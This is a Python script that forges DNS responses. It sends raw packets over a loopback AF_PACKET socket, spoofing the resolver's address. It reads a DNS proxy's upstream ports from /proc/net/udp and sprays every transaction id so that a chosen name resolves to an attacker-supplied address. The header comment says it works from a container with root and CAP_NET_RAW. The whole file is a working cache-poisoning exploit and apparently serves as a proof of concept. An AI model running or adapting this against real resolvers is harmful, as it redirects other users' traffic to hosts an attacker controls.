#!/usr/bin/env python3
# Forged answers written with an AF_PACKET socket on lo (below the output hook, as root with CAP_NET_RAW
# in the pod can), from RESOLVER:53 to TARGET:PORT for every port of a socket connected to RESOLVER:53
# in /proc/net/udp (the DNS proxy's upstream sockets), every id, for SECONDS; each answers NAME with ADDRESS.
# Usage: python3 lo-packet-spray.py RESOLVER TARGET NAME ADDRESS SECONDS  -> JSON {sent, errors, ports}
import json, socket, struct, sys, time
resolver, target, name, address, seconds = sys.argv[1:6]
seconds = float(seconds)
rhex = "".join("%02X" % int(b) for b in reversed(resolver.split("."))) + ":0035"
qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
question = qname + struct.pack("!HH", 1, 1)
record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF
def ports():
    out = []
    for line in open("/proc/net/udp").read().splitlines()[1:]:
        c = line.split()
        if c[2] == rhex: out.append(int(c[1].split(":")[1], 16))
    return out
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
eth = b"\0" * 12 + b"\x08\x00"
sent = 0; errors = {}; swept = set()
end = time.time() + seconds
while time.time() < end:
    for port in ports():
        swept.add(port)
        for qid in range(65536):
            dns = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question + record
            udp = struct.pack("!HHHH", 53, port, 8 + len(dns), 0) + dns
            h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(resolver), socket.inet_aton(target))
            h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
            try:
                s.sendto(eth + h + udp, ("lo", 0x0800)); sent += 1
            except OSError as e:
                errors[e.errno] = errors.get(e.errno, 0) + 1
        if time.time() >= end: break
print(json.dumps({"sent": sent, "errors": errors, "ports": len(swept)}))
